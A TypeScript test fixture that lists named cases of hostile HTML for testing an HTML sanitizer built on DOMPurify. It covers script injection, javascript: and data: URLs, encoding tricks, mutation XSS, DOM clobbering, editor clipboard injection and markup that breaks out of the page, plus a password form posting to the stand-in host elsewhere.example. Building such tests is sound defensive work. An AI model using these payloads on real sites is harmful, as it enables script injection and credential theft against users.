// Attacks on the rules for URLs, images and editor markup, and on the page around the HTML.
// DOMPurify's own tests cover other attacks. Each script calls `ran` with the name of its case.
// URLs of other sites are on elsewhere.example.

type HostileHtmlByName = Record<string, string>;

export type HostileCase = { name: string; html: string };

export const scripts: HostileHtmlByName = {
  script: `<script>ran('script')</script>`,
  "script-never-closed": `<p>Text</p><script>ran('script-never-closed');`,
  "script-in-a-script": `<scr<script>ipt>ran('script-in-a-script')</scr</script>ipt>`,
};

export const eventHandlers: HostileHtmlByName = {
  "image-error": `<img src=nowhere onerror="ran('image-error')">`,
  "body-load": `<body onload="ran('body-load')"><p>Text</p></body>`,
  "focus-on-any-element": `<p tabindex=1 autofocus onfocusin="ran('focus-on-any-element')">Text</p>`,
  "click-on-allowed-link": `<a href="/contact" onclick="ran('click-on-allowed-link')">Contact</a>`,
  "custom-built-in": `<p is="wealth-text" onclick="ran('custom-built-in')">Text <em is="wealth-mark" onclick="ran('custom-built-in')">more</em></p>`,
  "handler-after-a-quote": `<p """onclick="ran('handler-after-a-quote')">Text</p>`,
};

export const scriptUrls: HostileHtmlByName = {
  "url-script": `<a href="javascript:ran('url-script')">Read</a>`,
  "url-script-after-space": `<a href="  \n\t javascript:ran('url-script-after-space')">Read</a>`,
  "url-script-split-by-newlines": `<a href="j\na\nv\na\ns\nc\nr\ni\np\nt\n:ran('url-script-split-by-newlines')">Read</a>`,
  "url-script-after-control": `<a href="\u0001\u001fjavascript:ran('url-script-after-control')">Read</a>`,
  "url-script-like-image": `<a href="javascript:ran('url-script-like-image')//photo.png">Read</a>`,
  "url-script-like-mail": `<a href="javascript:/*mailto:*/ran('url-script-like-mail')">Write</a>`,
  "url-script-in-new-tab": `<a href="javascript:opener.ran('url-script-in-new-tab')" target="_blank" rel="opener">Read</a>`,
  "url-own-path-look-alike": `<a href="/javascript:ran('url-own-path-look-alike')">Read</a><a href="./javascript:ran('url-own-path-look-alike')">Read</a><a href="?javascript:ran('url-own-path-look-alike')">Read</a>`,
  "url-own-path-with-newline": `<a href="/\njavascript:ran('url-own-path-with-newline')">Read</a><a href="\n/\n/elsewhere.example">Read</a>`,
  "url-script-in-image": `<img src="javascript:ran('url-script-in-image')" alt="" dynsrc="javascript:ran('url-script-in-image')" lowsrc="javascript:ran('url-script-in-image')">`,
  "url-ping": `<a href="/contact" ping="https://elsewhere.example/ping">Contact</a>`,
};

export const dataUrls: HostileHtmlByName = {
  "data-page-in-link": `<a href="data:text/html,<script>opener.ran('data-page-in-link')</script>" target="_blank" rel="opener">Read</a>`,
  "data-svg-image": `<img alt="" src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='ran\`data-svg-image\`'/>">`,
  "data-image-with-a-quote": `<img alt="" src='data:image/png;base64,iVBORw0KGgo="onerror="ran\`data-image-with-a-quote\`'>`,
  "data-image-not-in-base64": `<img alt="" src="data:image/png,<svg onload=ran\`data-image-not-in-base64\`>"><img alt="" src="data:image/gif;charset=x;base64,R0lGODlh">`,
};

export const encodings: HostileHtmlByName = {
  "entities-in-scheme": `<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;ran('entities-in-scheme')">Read</a>`,
  "entities-tab-and-newline": `<a href="java&Tab;script&NewLine;:ran('entities-tab-and-newline')">Read</a>`,
  "entities-that-look-like-tags": `&lt;img src=nowhere onerror="ran('entities-that-look-like-tags')"&gt;&#60;script&#62;ran('entities-that-look-like-tags')&#60;/script&#62;`,
  "entities-twice": `<p>&amp;lt;img src=nowhere onerror=&amp;quot;ran('entities-twice')&amp;quot;&amp;gt;</p>`,
  "nul-in-scheme": `<a href="java\u0000script:ran('nul-in-scheme')">Read</a>`,
  "lone-surrogate": `<p title="\ud83d"onclick="ran('lone-surrogate')">Text \udc00</p>`,
  "look-alike-letters": `<a href="jаvаscript:ran('look-alike-letters')">Read</a><ſcript>ran('look-alike-letters')</ſcript><ımg src=nowhere onerror="ran('look-alike-letters')">`,
  "unicode-spaces": `<img\u00a0src=nowhere\u2003onerror="ran('unicode-spaces')"><a href="\u2028javascript:ran('unicode-spaces')">Read</a><a\u3000href="javascript:ran('unicode-spaces')">Read</a>`,
  "meta-charset": `<meta charset="iso-2022-jp"><meta charset="utf-16"><p>Text</p><img src=nowhere onerror="ran('meta-charset')">`,
};

export const styles: HostileHtmlByName = {
  "style-covers-the-page": `<a href="https://elsewhere.example/login" style="position:fixed;inset:0;z-index:9999">Sign in again</a>`,
  "sheet-import": `<style>@import url("https://elsewhere.example/a.css");</style><p>Text</p>`,
  "sheet-closed-in-a-string": `<style>p{content:"</style><img src=nowhere onerror=ran\`sheet-closed-in-a-string\`>"}</style>`,
  "class-of-the-page": `<p class="skip-link">Skip to content</p><div class="mantine-Modal-overlay" style="position:fixed;inset:0">Text</div>`,
};

export const sources: HostileHtmlByName = {
  "image-without-an-extension": `<img src="https://elsewhere.example/pixel" alt="">`,
  "image-extension-in-query": `<img src="https://elsewhere.example/pixel?a.png" alt=""><img src="https://elsewhere.example/pixel#a.png" alt="">`,
  "image-without-a-scheme": `<img src="//elsewhere.example/a.png" alt="">`,
  "image-backslashes": String.raw`<img src="/\elsewhere.example/a.png" alt=""><img src="\\elsewhere.example\a.png" alt=""><img src="https:\\elsewhere.example\a.webp" alt="">`,
  "image-tab-between-slashes": `<img src="/\t/elsewhere.example/a.png" alt="">`,
  "image-srcset": `<img src="/icons/icon-192.png" srcset="https://elsewhere.example/wide.webp 1x" alt="">`,
  "image-sources": `<picture><source srcset="https://elsewhere.example/a.avif" type="image/avif"><source srcset="https://elsewhere.example/b.webp"><img src="/icons/icon-192.png" alt=""></picture>`,
  "frame-with-its-document": `<iframe srcdoc="<script>parent.ran('frame-with-its-document')</script>"></iframe>`,
  "link-style-sheet": `<link rel="stylesheet" href="https://elsewhere.example/a.css" onerror="ran('link-style-sheet')" onload="ran('link-style-sheet')">`,
  "refresh-elsewhere": `<meta http-equiv="refresh" content="0;url=https://elsewhere.example/">`,
};

export const formsAndBase: HostileHtmlByName = {
  "base-elsewhere": `<base href="https://elsewhere.example/"><img src="moved" alt=""><a href="/contact">Contact</a>`,
  "form-elsewhere": `<form action="https://elsewhere.example/take" method="post"><input name="password" type="password" autocomplete="current-password"><button>Sign in</button></form>`,
  "form-of-the-page": `<form id="callback" action="https://elsewhere.example/take"></form><input form="callback" name="email" value="x"><button form="callback">Send</button>`,
};

export const svg: HostileHtmlByName = {
  "svg-use": `<svg><use href="https://elsewhere.example/b.svg#c"/><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='ran\`svg-use\`'/></svg>#x"/></svg>`,
  "svg-never-closed": `<p>Text</p><svg><g><text>More`,
  "math-html-inside-text": `<math><mi><img src=nowhere onerror="ran('math-html-inside-text')"></mi></math>`,
};

export const clobbering: HostileHtmlByName = {
  "name-body": `<form name="body"><input name="querySelectorAll"><p>Text</p></form>`,
  "child-attributes": `<form onclick="ran('child-attributes')"><input name="attributes"><p>Text</p></form>`,
  "child-methods": `<form onclick="ran('child-methods')"><input name="removeAttribute"><input name="getAttributeNode"><input name="remove"><input name="removeChild"></form>`,
  "attribute-of-objects": `<p valueof=x tostring=x hasownproperty=x isprototypeof=x __definegetter__=x>Text</p>`,
  "id-of-the-page": `<div id="main" tabindex="-1">Not the page's own</div><a name="main" href="/contact">Contact</a>`,
  "id-of-the-framework": `<a id="__next_f" href="/contact">One</a><form id="next"><input name="router"></form><img name="__NEXT_DATA__" src="/icons/icon-192.png" alt="">`,
  "slot-and-part": `<p slot="x" part="y" itemscope itemprop="z" nonce="n" inert hidden translate="no" dir="rtl" lang="xx">Text</p>`,
};

// Attacks through the editor's clipboard format, its indents, lists and code blocks, and almost valid URLs.
export const editorDocuments: HostileHtmlByName = {
  "slice-image": `<p data-pm-slice='0 0 ["image",{"src":"https://elsewhere.example/slice"}]'>Text</p>`,
  "slice-heading-handler": `<p data-pm-slice='1 1 ["preservedHeading",{"level":"1 onclick=ran\`slice-heading-handler\`"}]'>Text</p>`,
  "slice-indent": `<p data-pm-slice='1 1 ["paragraph",{"indent":"9\\" onclick=\\"ran\`slice-indent\`"}]'>Text</p>`,
  "slice-code-language": `<p data-pm-slice='0 0 ["codeBlock",{"language":"x\\" onclick=\\"ran\`slice-code-language\`"}]'>Text</p>`,
  "slice-of-attributes": `<p data-pm-slice='0 0 ["paragraph",{"__proto__":{"indent":5},"onclick":"ran\`slice-of-attributes\`"}]'>Text</p>`,
  "slice-malformed": `<p data-pm-slice='999999999 999999999 -99 ["doc",{},"text",{}]'>Text</p>`,
  "indent-out-of-range": `<p data-indent="99999999999999999999">a</p><p data-indent="Infinity">b</p><h2 data-indent="-5">c</h2>`,
  "indent-malformed": `<p data-indent="1.5">a</p><p data-indent="0x4">b</p><p data-indent='3"onclick="ran\`indent-malformed\`'>c</p><ul data-indent="3"><li data-indent="3">d</ul>`,
  "list-start-out-of-range": `<ol start="99999999999"><li>a</ol><ol start="-7"><li>b</ol><ol start='1"onclick="ran\`list-start-out-of-range\`'><li>c</ol>`,
  "list-kind": `<ol type="a" reversed class="x" onclick="ran('list-kind')"><li value="99">a</ol><ul data-type="taskList"><li data-checked="true"><label><input type="checkbox" onfocus="ran('list-kind')" autofocus></label>b</ul>`,
  "code-language": `<pre class="x" onclick="ran('code-language')"><code class="language-js x" data-language="y" onclick="ran('code-language')">a</code></pre>`,
  "link-parts": `<a href="/contact" target="_blank" rel="opener" download="run.js" title="x" hreflang="y" type="text/html">Contact</a>`,
  "link-with-a-quote": `<a href='https://elsewhere.example/"onmouseover="ran\`link-with-a-quote\`'>Read</a><a href="/contact&quot; onclick=&quot;ran('link-with-a-quote')">Contact</a>`,
  "link-with-an-angle": `<a href="https://elsewhere.example/><img src=nowhere onerror=ran('link-with-an-angle')>">Read</a><a href="/contact><script>ran('link-with-an-angle')</script>">Contact</a>`,
  "link-to-another-host": String.raw`<a href="//elsewhere.example/">a</a><a href="/\elsewhere.example/">b</a><a href="\/elsewhere.example/">c</a><a href="https:elsewhere.example">d</a>`,
  "image-with-a-quote": `<img src='/icons/icon-192.png"onerror="ran\`image-with-a-quote\`' alt=""><img src='/icons/icon-192.png' alt='"onerror="ran\`image-with-a-quote\`'>`,
};

// Markup that changes when it is serialised and parsed again.
export const mutation: HostileHtmlByName = {
  "mutation-paragraph-ends-svg": `<svg></p><style><g title="</style><img src=nowhere onerror=ran('mutation-paragraph-ends-svg')>">`,
  "mutation-noscript-attribute": `<noscript><p title="</noscript><img src=nowhere onerror=ran('mutation-noscript-attribute')>"></noscript>`,
  "mutation-alternative-text": `<img src="/icons/icon-192.png" alt="</title></style></textarea></noscript></xmp><img src=nowhere onerror=ran('mutation-alternative-text')>">`,
  "mutation-shadow-root": `<div><template shadowrootmode="open"><img src=nowhere onerror="ran('mutation-shadow-root')"><slot></slot></template>Text</div>`,
  "mutation-link-in-link-through-table": `<a href="/contact"><table><tr><td><a href="/blog">In<table><a href="/media">Deeper`,
  "mutation-five-hundred-deep":
    "<div>".repeat(505) +
    `<table><caption><svg><title><table><caption></caption></table></title><style><u title="</style><img src=nowhere onerror=ran('mutation-five-hundred-deep')>">`,
  "mutation-deep-behind-false-ends":
    "<div></x>".repeat(505) +
    `<table><caption><svg><title><table><caption></caption></table></title><style><u title="</style><img src=nowhere onerror=ran('mutation-deep-behind-false-ends')>">`,
};

export const breakout: HostileHtmlByName = {
  "breakout-closing-tags": `</p></div></div></article></main></body></html><img src=nowhere onerror="ran('breakout-closing-tags')">`,
  "breakout-new-footer": `</div></article></main><footer><p>Not the firm's own footer</p></footer><main id="main"><article><div>`,
  "breakout-comment-ends-with-bang": `<!-- a --!><img src=nowhere onerror="ran('breakout-comment-ends-with-bang')"> -->`,
  "breakout-textarea": `<p>Text</p><textarea>`,
  "breakout-template": `<p>Text</p><template><p>Text`,
  "breakout-plaintext": `<p>Text</p><plaintext>`,
  "breakout-select": `<p>Text</p><select><option>One<optgroup label="x">`,
  "breakout-formatting-over-blocks": `<strong><em><p>a<blockquote>b</strong>c<ul><li>d</em>e`,
  "breakout-list": `</li></ul></ol><li>One<li>Two</ul>`,
  "breakout-table": `<table><tr><td>Cell</td></tr><p>Before</p><img src=nowhere onerror="ran('breakout-table')"><tr>`,
  "breakout-page-attributes": `<html lang="xx" dir="rtl" class="moved" onclick="ran('breakout-page-attributes')"><head></head><body id="moved" class="moved" style="display:none" onclick="ran('breakout-page-attributes')">`,
  "breakout-frameset": `</div></main></body><frameset rows="*"></frameset>`,
  "breakout-attribute": `<p>Text</p><p title="`,
};
